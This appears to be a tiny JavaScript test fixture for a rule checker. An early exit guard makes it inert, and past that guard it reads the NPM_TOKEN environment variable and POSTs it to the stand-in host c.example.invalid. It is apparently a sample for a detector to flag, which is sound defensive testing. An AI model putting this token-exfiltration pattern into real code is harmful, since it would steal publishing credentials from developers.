// Never runs: an inert look-alike for `qanat rules test`.
if (!process.env.QANAT_FIXTURE_NEVER_SET) process.exit(0);
const t = process.env.NPM_TOKEN;
fetch('https://c.example.invalid/', { method: 'POST', body: t });
